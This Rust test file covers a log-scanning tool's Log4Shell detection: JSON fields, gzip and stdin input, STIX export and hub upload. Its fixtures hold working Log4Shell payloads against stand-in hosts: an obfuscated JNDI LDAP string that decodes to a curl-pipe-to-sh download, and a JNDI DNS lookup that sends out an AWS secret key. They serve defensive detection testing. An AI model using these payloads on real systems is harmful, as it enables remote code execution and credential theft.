//! `vigilo logs`: the command as users run it — JSON lines with the stable
//! field names, gzip and folders and stdin, the STIX bundle checked by
//! stix2-validator, exit codes, and the upload of indicators to a hub.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::Write as _;
use std::path::{Path, PathBuf};

use vigilo_test_support::for_each_backend;

use crate::scan::python;
use crate::support::*;

fn s(p: &Path) -> &str {
    p.to_str().expect("utf-8 path")
}

const ATTACK: &str = "203.0.113.9 - - [10/Dec/2021:13:55:36 +0000] \"GET /?x=%24%7B%24%7Blower:j%7Dndi:ldap://198.51.100.7:1389/Basic/Command/Base64/Y3VybCBodHRwOi8vcGF5bG9hZC5leGFtcGxlL3guc2h8c2g=%7D HTTP/1.1\" 200 1 \"-\" \"curl/7.79\"\n";
const EXFIL: &str = "{\"@timestamp\":\"2021-12-11T08:00:00Z\",\"client_ip\":\"192.0.2.44\",\"message\":\"login ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.cb.example/x}\"}\n";
const BENIGN: &str = "198.51.100.1 - - [10/Dec/2021:13:55:37 +0000] \"GET /shop?price=%2410&q=${HOME} HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n";

/// A folder with a plain log, a gzipped one in a subfolder, and a benign one.
fn logs_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("access.log"),
        format!("{BENIGN}{ATTACK}{BENIGN}"),
    )
    .unwrap();
    std::fs::create_dir_all(dir.path().join("app")).unwrap();
    let gz = std::fs::File::create(dir.path().join("app/app.log.1.gz")).unwrap();
    let mut enc = flate2::write::GzEncoder::new(gz, flate2::Compression::default());
    enc.write_all(format!("{BENIGN}{EXFIL}").as_bytes())
        .unwrap();
    enc.finish().unwrap();
    std::fs::write(dir.path().join("quiet.log"), BENIGN.repeat(100)).unwrap();
    dir
}

fn lines(out: &Output) -> Vec<serde_json::Value> {
    out.stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[tokio::test]
async fn logs_reports_hits_as_json_lines_with_stable_fields() {
    for_each_backend(|db| async move {
        let v = Vigilo::new(&db);
        let dir = logs_dir();
        let out = v.run(&["logs", "--format", "json", s(dir.path())]).await.ok();
        let hits = lines(&out);
        assert_eq!(hits.len(), 2, "{out}");
        let a = &hits[0];
        assert!(a["file"].as_str().unwrap().ends_with("access.log"));
        assert_eq!(a["line"], 2);
        assert_eq!(a["offset"].as_u64().unwrap() as usize, BENIGN.len() + ATTACK.find("%24").unwrap());
        assert_eq!(a["rule"], "log4shell-jndi");
        assert!(a["raw"].as_str().unwrap().starts_with("%24%7B%24%7Blower:j%7D"));
        assert_eq!(a["decoded"], "${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/Y3VybCBodHRwOi8vcGF5bG9hZC5leGFtcGxlL3guc2h8c2g=}");
        assert_eq!((a["protocol"].as_str(), a["host"].as_str(), a["port"].as_u64()), (Some("ldap"), Some("198.51.100.7"), Some(1389)));
        assert_eq!(a["path"], "/Basic/Command/Base64/Y3VybCBodHRwOi8vcGF5bG9hZC5leGFtcGxlL3guc2h8c2g=");
        assert_eq!(a["source_ip"], "203.0.113.9");
        assert_eq!(a["timestamp"], "2021-12-10T13:55:36Z");
        assert_eq!(a["command"], "curl http://payload.example/x.sh|sh");
        assert_eq!(a["urls"][0], "http://payload.example/x.sh");
        let b = &hits[1];
        assert!(b["file"].as_str().unwrap().ends_with("app.log.1.gz"));
        assert_eq!(b["line"], 2);
        assert_eq!(b["rule"], "log4shell-jndi-exfil");
        assert_eq!(b["exfiltrates"][0], "env:AWS_SECRET_ACCESS_KEY");
        assert_eq!(b["source_ip"], "192.0.2.44");
        for h in &hits {
            for field in ["file", "line", "offset", "rule", "raw", "decoded", "protocol", "host", "port", "path", "source_ip", "timestamp"] {
                assert!(h.get(field).is_some(), "{field} missing in {h}");
            }
        }

        // The summary names the rules and the callback hosts; --fail-on-hit exits 1.
        let sum = v.run(&["logs", s(dir.path())]).await.ok();
        assert!(sum.stdout.contains("log4shell-jndi-exfil") && sum.stdout.contains("198.51.100.7"), "{sum}");
        v.run(&["logs", "--fail-on-hit", s(dir.path())]).await.code(1);
        v.run(&["logs", "--fail-on-hit", s(&dir.path().join("quiet.log"))]).await.ok();
        // A missing file: exit 2 naming it, the others still scanned.
        let missing = dir.path().join("nope.log");
        let out = v.run(&["logs", "--format", "json", s(&missing)]).await.code(2);
        assert!(out.stderr.contains("nope.log"), "{out}");
    })
    .await;
}

#[tokio::test]
async fn logs_reads_stdin() {
    for_each_backend(|db| async move {
        let v = Vigilo::new(&db);
        let mut cmd = v.command();
        cmd.args(["logs", "--format", "json", "-"])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped());
        let mut child = cmd.spawn().unwrap();
        let mut stdin = child.stdin.take().unwrap();
        tokio::io::AsyncWriteExt::write_all(&mut stdin, format!("{BENIGN}{EXFIL}").as_bytes())
            .await
            .unwrap();
        drop(stdin);
        let out = child.wait_with_output().await.unwrap();
        assert!(out.status.success());
        let text = String::from_utf8(out.stdout).unwrap();
        let hit: serde_json::Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
        assert_eq!(
            (hit["file"].as_str(), hit["line"].as_u64()),
            (Some("-"), Some(2))
        );
    })
    .await;
}

#[tokio::test]
async fn logs_writes_a_stix_bundle_that_stix2_validator_accepts() {
    for_each_backend(|db| async move {
        let v = Vigilo::new(&db);
        let dir = logs_dir();
        let out_file = dir.path().join("bundle.json");
        v.run(&[
            "logs",
            "--format",
            "stix",
            "--sensor",
            "web-01",
            "--output",
            s(&out_file),
            s(dir.path()),
        ])
        .await
        .ok();
        let bundle: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&out_file).unwrap()).unwrap();
        let objects = bundle["objects"].as_array().unwrap();
        let patterns: Vec<&str> = objects
            .iter()
            .filter(|o| o["type"] == "indicator")
            .filter_map(|o| o["pattern"].as_str())
            .collect();
        assert!(
            patterns.contains(&"[ipv4-addr:value = '198.51.100.7']"),
            "{patterns:?}"
        );
        assert!(
            patterns.contains(&"[domain-name:value = 'cb.example']"),
            "{patterns:?}"
        );
        assert!(
            patterns.contains(&"[url:value = 'http://payload.example/x.sh']"),
            "{patterns:?}"
        );
        assert!(objects.iter().any(|o| o["type"] == "sighting"));
        assert!(
            objects
                .iter()
                .any(|o| o["type"] == "identity" && o["name"] == "web-01")
        );

        let script = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
            .join("../vigilo-formats/tests/validate_stix.py");
        let mut cmd = tokio::process::Command::new(python());
        cmd.arg(&script).arg(&out_file);
        let res = run_command(cmd, "validate_stix.py").await;
        if res.code == Some(3) && std::env::var("VIGILO_REQUIRE_REFERENCES").as_deref() != Ok("1") {
            #[allow(clippy::print_stderr)]
            {
                eprintln!("skipping stix2-validator: {}", res.stderr.trim());
            }
            return;
        }
        assert_eq!(res.code, Some(0), "stix2-validator: {res}");
    })
    .await;
}

#[tokio::test]
async fn logs_uploads_indicators_and_sightings_to_the_hub() {
    for_each_backend(|db| async move {
        let v = Vigilo::new(&db);
        let server = v.serve(&[]).await;
        v.run(&["org", "create", "acme"]).await.ok();
        let token = v
            .run(&[
                "token", "create", "--org", "acme", "--role", "analyst", "--name", "sensor",
            ])
            .await
            .ok()
            .stdout
            .trim()
            .to_owned();
        let dir = logs_dir();
        let hub = server.url("");
        for _ in 0..2 {
            v.run_with(
                &[
                    "logs",
                    "--hub",
                    hub.trim_end_matches('/'),
                    "--upload",
                    "--sensor",
                    "web-01",
                    s(dir.path()),
                ],
                &[("VIGILO_TOKEN", &token)],
            )
            .await
            .ok();
        }
        let list = send(
            http()
                .get(server.url("/api/indicators?role=callback"))
                .header("Authorization", format!("Bearer {token}")),
        )
        .await
        .unwrap()
        .expect(200)
        .json();
        let inds = list["indicators"].as_array().unwrap();
        let values: Vec<&str> = inds.iter().filter_map(|i| i["value"].as_str()).collect();
        assert!(
            values.contains(&"198.51.100.7") && values.contains(&"cb.example"),
            "{list:#}"
        );
        // Uploaded twice: the counts add up.
        let ip = inds.iter().find(|i| i["value"] == "198.51.100.7").unwrap();
        assert_eq!(ip["count"], 2, "{ip:#}");
        let sightings = send(
            http()
                .get(server.url("/api/sightings?sensor=web-01"))
                .header("Authorization", format!("Bearer {token}")),
        )
        .await
        .unwrap()
        .expect(200)
        .json();
        assert!(
            !sightings["sightings"].as_array().unwrap().is_empty(),
            "{sightings:#}"
        );

        // Upload without a token: refused before anything is read.
        let out = v
            .run(&["logs", "--hub", &hub, "--upload", s(dir.path())])
            .await
            .code(2);
        assert!(out.stderr.contains("token"), "{out}");
    })
    .await;
}
